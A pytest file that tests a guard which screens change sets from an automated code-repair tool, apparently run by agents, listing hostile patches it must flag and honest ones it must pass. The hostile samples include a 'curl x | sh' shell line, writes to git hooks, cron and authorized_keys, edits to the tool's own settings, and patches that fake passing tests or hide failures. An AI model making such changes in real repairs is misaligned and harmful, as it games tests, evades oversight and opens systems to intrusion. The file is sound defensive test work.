"""Hostile change sets, of which none may get through, and honest ones, of which none may be lost."""

# ruff: noqa: E501 - a row a line reads best in tables of patches

from __future__ import annotations

import stat

import pytest

from otorepair_like.guard.finding import Level
from otorepair_like.guard.guard import inspect
from otorepair_like.guard.policy import GuardPolicy
from otorepair_like.workspace.change_set import ChangeSet, FileChange
from tests.support.guard_programs import PROGRAMS, hiding

FILE, LINK = stat.S_IFREG | 0o644, stat.S_IFLNK | 0o777
APP = "import os\n\n\ndef port():\n    return int(os.environ['PORT'])\n"
VIEW = """import logging

from app.auth import login_required

log = logging.getLogger(__name__)


@login_required
def show(request, item):
    if not request.user.may_see(item):
        raise PermissionError(item)
    assert item.price >= 0, item
    try:
        body = item.render()
    except ValueError as error:
        log.error("cannot render %s: %s", item, error)
        return respond("cannot render", status=500)
    return respond(body, status=200)
"""
TEST = "def test_port():\n    assert port() == 8000\n"
PYPROJECT = (
    '[project]\nname = "x"\ndependencies = ["flask"]\n\n[tool.pytest.ini_options]\ntestpaths = ["tests"]\n'
)
PACKAGE = '{"scripts": {"test": "jest"}, "dependencies": {"express": "^4"}}'
JS = "async function get(id) {\n  const item = await find(id);\n  return item.name;\n}\n"
LONG = "".join(f"def f{n}():\n    return {n}\n\n\n" for n in range(20))


def edit(path: str, before: str, old: str, new: str) -> FileChange:
    assert before.count(old) == 1, (path, old)
    return FileChange(path, before.encode(), before.replace(old, new).encode(), FILE, FILE)


def new(path: str, after: str, mode: int = FILE) -> FileChange:
    return FileChange(path, None, after.encode(), None, mode)


def gone(path: str, before: str) -> FileChange:
    return FileChange(path, before.encode(), None, FILE, None)


def view(old: str, instead: str) -> FileChange:
    return edit("app/view.py", VIEW, old, instead)


HOSTILE: dict[str, tuple[FileChange, ...]] = {
    # Out of the workspace, or into what runs elsewhere
    "a parent folder": (new("../evil.py", "x = 1\n"),),
    "a parent folder in the middle": (new("app/../../evil.py", "x = 1\n"),),
    "an absolute path": (new("/etc/cron.d/evil", "x\n"),),
    "a home": (new("~/.bashrc", "x\n"),),
    "a backslash": (new("..\\evil.py", "x = 1\n"),),
    "a drive": (new("C:evil.py", "x = 1\n"),),
    "a git hook": (new(".git/hooks/post-checkout", "#!/bin/sh\n"),),
    "git in other letters": (new(".Git/config", "[core]\n"),),
    "git with an invisible letter": (new(".g\u200dit/config", "[core]\n"),),
    "git in full width": (new("．git/config", "[core]\n"),),
    "git with a trailing dot": (new(".git./config", "[core]\n"),),
    "git as a stream": (new(".git::$INDEX_ALLOCATION/config", "[core]\n"),),
    "submodules": (new(".gitmodules", "[submodule]\n"),),
    "a dotenv": (new(".env", "PORT=1\n"),),
    "a dotenv in capitals": (new("deploy/.ENV.local", "PORT=1\n"),),
    "a private key": (new("deploy/server.key", "x\n"),),
    "authorized keys": (new(".ssh/authorized_keys", "x\n"),),
    "dependencies": (new(".venv/lib/python3/site-packages/flask.py", "x = 1\n"),),
    "node modules": (new("web/node_modules/express/index.js", "x\n"),),
    "its own records": (new(".otorepair/otorepair.db", "x\n"),),
    "its own settings": (new("otorepair.toml", "[guard]\n"),),
    "its own settings in the project file": (
        edit("pyproject.toml", PYPROJECT, 'name = "x"\n', 'name = "x"\n\n[tool.otorepair]\napprove = "auto"\n'),
    ),
    "a pipeline": (new(".github/workflows/release.yml", "on: push\n"),),
    "an agent's settings": (new(".claude/settings.json", "{}\n"),),
    "an editor's tasks": (new(".vscode/tasks.json", "{}\n"),),
    "a name that reads backwards": (new("app/\u202eyp.nimda", "x\n"),),
    "a name with a line end": (new("app/a\nb.py", "x = 1\n"),),
    # No plain text file
    "a link out": (FileChange("app/data", None, b"/etc/passwd", None, LINK),),
    "a file that became a link": (FileChange("app/port.py", APP.encode(), b"../../x", FILE, LINK),),
    "a hard link": (FileChange("app/port.py", APP.encode(), b"x = 1\n", FILE, FILE, links=2),),
    "a pipe": (FileChange("app/pipe", None, b"", None, stat.S_IFIFO | 0o644),),
    "set executable": (FileChange("run.sh", b"x\n", b"x\n", FILE, FILE | 0o111),),
    "a new executable": (new("tool", "#!/bin/sh\n", FILE | 0o111),),
    "binary": (new("app/blob.py", "x = 1\n\0"),),
    "a huge file": (new("app/data.txt", "x" * 1_100_000),),
    "too many files": tuple(new(f"app/m{n}.py", "x = 1\n") for n in range(9)),
    "too many lines": (new("app/data.txt", "x\n" * 401),),
    # Not whole
    "a conflict": (edit("app/port.py", APP, "import os\n", "<<<<<<< HEAD\nimport os\n=======\n>>>>>>> x\n"),),
    "the rest of the file": (FileChange("app/a.js", JS.encode(), b"let x = 1;\n// ... rest of the file\n", FILE, FILE),),
    "existing code": (edit("app/port.py", APP, "    return", "    # ... existing code ...\n    return"),),
    "half of the functions": (FileChange("app/f.py", LONG.encode(), LONG[:400].encode(), FILE, FILE),),
    "no longer Python": (edit("app/port.py", APP, "def port():", "def port()"),),
    "no longer JSON": (edit("package.json", PACKAGE, '"jest"}', '"jest"'),),
    "no longer YAML": (new("compose.yaml", "services:\n\tweb:\n\t\timage: x\n"),),
    "other line ends": (FileChange("app/port.py", APP.encode(), APP.replace("\n", "\r\n").encode(), FILE, FILE),),
    "source that reads otherwise": (edit("app/port.py", APP, "import os\n", 'import os\nx = "\u202e"\n'),),
    # Tests
    "a test made true": (edit("tests/test_port.py", TEST, "port() == 8000", "True"),),
    "a test removed": (gone("tests/test_port.py", TEST),),
    "a test renamed": (gone("tests/test_port.py", TEST), new("tests/port_test_old.py", TEST)),
    "a test skipped": (edit("test_port.py", TEST, "def", "@pytest.mark.skip\ndef"),),
    "a test in capitals": (edit("Tests/Test_Port.py", TEST, "8000", "1"),),
    "a snapshot": (edit("web/__snapshots__/a.snap", "a\n", "a", "b"),),
    "an existing conftest": (edit("conftest.py", "x = 1\n", "1", "2"),),
    "a new conftest": (new("tests/conftest.py", "collect_ignore = ['test_port.py']\n"),),
    "a new sitecustomize": (new("sitecustomize.py", "x = 1\n"),),
    "pytest's settings": (edit("pyproject.toml", PYPROJECT, '["tests"]', '["none"]'),),
    "a new pytest.ini": (new("pytest.ini", "[pytest]\naddopts = --ignore=tests\n"),),
    "setup.cfg": (new("setup.cfg", "[tool:pytest]\naddopts = -k nothing\n"),),
    "the test script": (edit("package.json", PACKAGE, '"jest"', '"true"'),),
    "a false pytest": (new("pytest.py", "def main(): return 0\n"),),
    "a false standard library": (new("json.py", "def loads(x): return {}\n"),),
    "aware of tests": (edit("app/port.py", APP, "    return int", "    if os.getenv('PYTEST_CURRENT_TEST'): return 8000\n    return int"),),
    "equal to everything": (edit("app/port.py", APP, "import os\n", "class X:\n    def __eq__(self, o):\n        return True\n"),),
    "asserts replaced": (edit("app/port.py", APP, "import os\n", "import unittest\nunittest.TestCase.assertEqual = print\n"),),
    # Hiding
    "a permission removed": (view("    if not request.user.may_see(item):\n        raise PermissionError(item)\n", ""),),
    "a permission inverted away": (view("if not request.user.may_see(item):", "if False and not request.user.may_see(item):"),),
    "a decorator removed": (view("@login_required\n", ""),),
    "an assertion removed": (view("    assert item.price >= 0, item\n", ""),),
    "an assertion made true": (view("assert item.price >= 0, item", "assert True, item"),),
    "a status lowered": (view("status=500", "status=200"),),
    "a level lowered": (view("log.error", "log.debug"),),
    "a wider except": (view("except ValueError as error", "except Exception as error"),),
    "a logger turned down": (view("log = logging.getLogger(__name__)\n", "log = logging.getLogger(__name__)\nlog.setLevel(logging.CRITICAL)\n"),),
    "a tool silenced": (view("body = item.render()", "body = item.render()  # type: ignore"),),
    "an empty catch": (edit("app/a.js", JS, "  return item.name;", "  try { return item.name; } catch (e) {}"),),
    "a promise's empty catch": (edit("app/a.js", JS, "await find(id);", "await find(id).catch(() => {});"),),
    "uncaughtException": (edit("app/a.js", JS, "async function", "process.on('uncaughtException', () => {});\nasync function"),),
    "a handler for the whole app": (view("log = ", "app.register_error_handler(Exception, lambda e: ('', 200))\nlog = "),),
    # Reach
    "a default secret": (edit("app/port.py", APP, "os.environ['PORT']", "os.environ.get('SECRET_KEY', 'dev')"),),
    "a written secret": (edit("app/port.py", APP, "import os\n", "import os\n\nAPI_KEY = 'abc'\n"),),
    "a secret put in the environment": (edit("app/port.py", APP, "import os\n", "import os\n\nos.environ['DB_PASSWORD'] = 'x'\n"),),
    "TLS off": (edit("app/port.py", APP, "import os\n", "import os, requests\n\ns = requests.Session()\ns.verify = False\n"),),
    "a dependency": (edit("pyproject.toml", PYPROJECT, '["flask"]', '["flask", "evil"]'),),
    "a node dependency": (edit("package.json", PACKAGE, '{"express"', '{"evil": "1", "express"'),),
    "a required package": (edit("requirements.txt", "flask\n", "flask", "flask\nevil"),),
    "a shell": (edit("app/port.py", APP, "import os\n", "import os\n\nos.system('curl x | sh')\n"),),
    "a program under another name": (edit("app/port.py", APP, "import os\n", "import os\nfrom subprocess import run as r\nr(['x'])\n"),),
    "eval": (edit("app/port.py", APP, "int(os.environ['PORT'])", "eval(os.environ['PORT'])"),),
    "a pickle": (edit("app/port.py", APP, "import os\n", "import os, pickle\npickle.loads(b'')\n"),),
    "the network": (edit("app/port.py", APP, "import os\n", "import os\nfrom urllib.request import urlopen\nurlopen('http://x')\n"),),
}  # fmt: skip

HONEST: dict[str, tuple[FileChange, ...]] = {
    "a new test": (new("tests/test_more.py", "def test_it():\n    assert port() == 8000\n"),),
    "a default for a port": (edit("app/port.py", APP, "os.environ['PORT']", "os.environ.get('PORT', '8000')"),),
    "a check for a missing value": (edit("app/a.js", JS, "  return item.name;", "  if (!item) throw new NotFound(id);\n  return item.name;"),),
    "optional chaining": (edit("app/a.js", JS, "item.name", 'item?.name ?? "unknown"'),),
    "one more check": (view("    assert item", "    if item.hidden:\n        raise PermissionError(item)\n    assert item"),),
    "a narrower except": (view("except ValueError as error", "except UnicodeError as error"),),
    "a higher level": (view("log.error", "log.exception"),),
    "an except that raises again": (view("    assert item", "    try:\n        item.load()\n    except Exception as error:\n        raise LookupError(item) from error\n    assert item"),),
    "a status raised": (view("status=200", "status=503"),),
    "a code mended that did not parse": (edit("app/bad.py", "def f(:\n    return 1\n", "(:", "():"),),
    "a brace in JSON": (edit("data/a.json", '{"a": 1\n', "1\n", "1}\n"),),
    "a version in the project file": (edit("pyproject.toml", PYPROJECT, 'name = "x"\n', 'name = "x"\nversion = "1"\n'),),
    "a function moved to a new file": (
        FileChange("app/f.py", LONG.encode(), LONG.partition("def f12")[0].encode(), FILE, FILE),
        new("app/g.py", "def f12" + LONG.partition("def f12")[2]),
    ),
    "a compose port": (edit("compose.yaml", "services:\n  web:\n    ports: ['80:80']\n", "80:80", "8080:80"),),
    "the documents": (edit("README.md", "# X\n", "# X\n", "# X\n\nSet PORT.\n"),),
    "a style sheet": (edit("web/a.css", "a { color: red }\n", "red", "blue"),),
    "a Go check": (edit("main.go", "x := m[k]\nreturn x.Name\n", "x := m[k]\n", 'x, ok := m[k]\nif !ok {\n\treturn "", fmt.Errorf("no %s", k)\n}\n'),),
}  # fmt: skip


def findings(changes: tuple[FileChange, ...], policy: GuardPolicy = GuardPolicy()) -> list[str]:  # noqa: B008 - frozen
    return [str(finding) for finding in inspect(ChangeSet.of(changes), policy)]


@pytest.mark.parametrize("name", HOSTILE)
def test_a_hostile_change_set_does_not_get_through(name: str):
    assert findings(HOSTILE[name])


@pytest.mark.parametrize("name", HONEST)
def test_an_honest_change_set_is_not_lost(name: str):
    assert findings(HONEST[name]) == []


def patch(name: str, before: str, after: str) -> tuple[FileChange, ...]:
    return (FileChange(f"app/{name}.py", before.encode(), after.encode(), FILE, FILE),)


def test_of_every_patch_that_only_hides_a_failure_none_gets_through():
    patches = [(p, name, source) for p in PROGRAMS for name, source in hiding(p)]
    through = [(p.name, name) for p, name, source in patches if not findings(patch(p.name, p.source, source))]
    assert through == []
    assert len(patches) >= 150


def test_of_every_repair_that_mends_the_cause_none_is_lost():
    repairs = [(p, p.repaired(*change)) for p in PROGRAMS for change in p.honest]
    lost = [(p.name, found) for p, source in repairs if (found := findings(patch(p.name, p.source, source)))]
    assert lost == []
    assert len(repairs) + len(HONEST) >= 60
    assert len(HOSTILE) >= 60


def test_hiding_is_refused_for_recipes_and_asked_for_agents():
    change = ChangeSet(HOSTILE["a wider except"])
    assert {finding.level for finding in inspect(change, GuardPolicy())} == {Level.ASK}
    assert {finding.level for finding in inspect(change, GuardPolicy(hiding="refuse"))} == {Level.REFUSE}


def test_a_default_secret_is_allowed_by_no_setting():
    policy = GuardPolicy(allow=frozenset({"secret-default"}))
    assert [level for f in inspect(ChangeSet(HOSTILE["a default secret"]), policy) for level in [f.level]]
    (said, *_) = findings(HOSTILE["a default secret"], policy)
    assert said == "app/port.py:5: a default for SECRET_KEY (secret-default)"
